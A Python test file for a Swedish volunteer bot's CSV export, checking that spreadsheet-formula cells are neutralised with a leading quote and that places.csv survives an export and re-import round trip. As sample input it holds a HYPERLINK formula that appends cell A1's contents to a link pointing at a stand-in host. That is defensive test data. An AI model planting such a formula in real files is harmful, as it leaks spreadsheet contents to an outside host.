"""Every CSV the bot writes is safe to open in a spreadsheet: a text cell that would be a
formula (``= + - @``, a tab, a carriage return first) gets a quote in front; numbers stay
numbers; and places.csv still goes round (export, import) with every text as it was."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from bot.i18n import Catalogs
from bot.services import reports
from bot.services.csv_cells import neutralise, restore
from bot.services.place_export import export
from bot.services.place_import import COLUMNS, import_text
from bot.ui.report_files import report_csv
from storage.db import create_engine, create_session_factory
from storage.uow import UnitOfWorkFactory
from tests.conftest import NOW, TZ
from tests.helpers import places_csv
from tests.test_place_import import GOOD

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka här")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+46 70 123 45 67", "'+46 70 123 45 67"),
        ("-Norr", "'-Norr"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindrag", "'\tindrag"),
        ("\r=1", "'\r=1"),
        ("'=already quoted", "''=already quoted"),
        ("''+two", "'''+two"),
        ("Centrum", "Centrum"),
        ("'quoted, but harmless", "'quoted, but harmless"),
        ("1+1", "1+1"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_a_dangerous_cell_gets_one_quote_and_comes_back(text: str, cell: str) -> None:
    assert neutralise(text) == cell
    assert restore(cell) == text


def test_restore_leaves_a_hand_written_cell_alone() -> None:
    assert restore("Café 'Pärlan'") == "Café 'Pärlan'"
    assert restore("=1+1") == "=1+1"  # never exported, so not ours to change


def _report(by_area: tuple[tuple[str, int], ...]) -> reports.Report:
    period = reports.days(date(2026, 11, 1), date(2026, 11, 30), TZ)
    return reports.Report(
        period=period,
        requests=3,
        by_category=(("shopping", 3),),
        by_area=by_area,
        done=1,
        cancelled=1,
        expired=1,
        fulfilled_share=1 / 3,
        claimed=1,
        # A clock set wrong can make a wait negative; it is still a number.
        claim_median=timedelta(minutes=-5),
        claim_p90=timedelta(minutes=-5),
        active_volunteers=1,
        volunteer_minutes=30,
        follow_ups=(),
        signup_seats=0,
        signup_people=0,
    )


def test_report_csv_neutralises_names_and_keeps_numbers() -> None:
    areas = ((FORMULA, 1), ("-Norr", 1), ("@Väst", 1), ("+Söder", -2), ("Centrum", 3))
    with Catalogs("sv").use("sv"):
        body = report_csv(_report(areas))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    by_name = {name: value for _section, name, value in rows[1:]}
    assert by_name["'" + FORMULA] == "1"
    assert by_name["'-Norr"] == by_name["'@Väst"] == "1"
    assert by_name["'+Söder"] == "-2"  # the number is left as it is
    assert by_name["Centrum"] == "3"
    assert by_name["Median (minuter)"] == "-5"
    for section, name, _value in rows:
        assert not section.startswith(DANGEROUS) and not name.startswith(DANGEROUS), name


DANGEROUS_PLACE = {
    **GOOD,
    "place_name": FORMULA,
    "organisation": "@Föreningen",
    "organisation_phone": "+46 8 123 45 67",
    "contact_person": "-Anna",
    "address": "=Storgatan 12",
    "lat": "-33.45",
    "lon": "-70.66",
    # Protected by hand the way the export does it: read as "=…", like an exported cell.
    "transit_hint": "'=quoted by hand",
    "title": "+Fika",
    "description": "=1+1",
    "cost_sek": "20",
}


async def test_places_csv_is_neutralised_and_goes_round(db_url: str) -> None:
    engine = create_engine(db_url)
    factory = UnitOfWorkFactory(create_session_factory(engine))
    try:
        first = await import_text(factory, places_csv(DANGEROUS_PLACE), TZ, NOW)
        assert (first.places, first.activities, first.errors) == (1, 1, [])
        async with factory() as uow:
            rows, _feeds = await export(uow, TZ)
        [row] = rows
        # What a spreadsheet would see: no formula, numbers as numbers.
        assert row["place_name"] == "'" + FORMULA
        assert row["organisation"] == "'@Föreningen"
        assert row["organisation_phone"] == "'+46 8 123 45 67"
        assert row["contact_person"] == "'-Anna"
        assert row["address"] == "'=Storgatan 12"
        assert row["transit_hint"] == "'=quoted by hand"
        assert row["title"] == "'+Fika"
        assert row["description"] == "'=1+1"
        assert (row["lat"], row["lon"]) == ("-33.45000", "-70.66000")
        assert row["category"] == GOOD["category"]
        for column, cell in row.items():
            if column not in ("lat", "lon"):
                assert not cell.startswith(DANGEROUS), column

        # The file as `hjalpsam export` writes it imports again and changes nothing.
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
        again = await import_text(factory, out.getvalue(), TZ, NOW)
        assert (again.places, again.activities, again.errors) == (0, 0, [])
        async with factory() as uow:
            place = await uow.catalogue.place("rk-cafe")
            activity = await uow.catalogue.activity("rk-fika")
            assert (place.name, place.address, place.transit_hint) == (
                FORMULA,
                "=Storgatan 12",
                "=quoted by hand",
            )
            assert (activity.title, activity.description) == ("+Fika", "=1+1")
            assert (place.lat, place.lon) == (-33.45, -70.66)
            rows_again, _feeds = await export(uow, TZ)
        assert rows_again == rows
    finally:
        await engine.dispose()
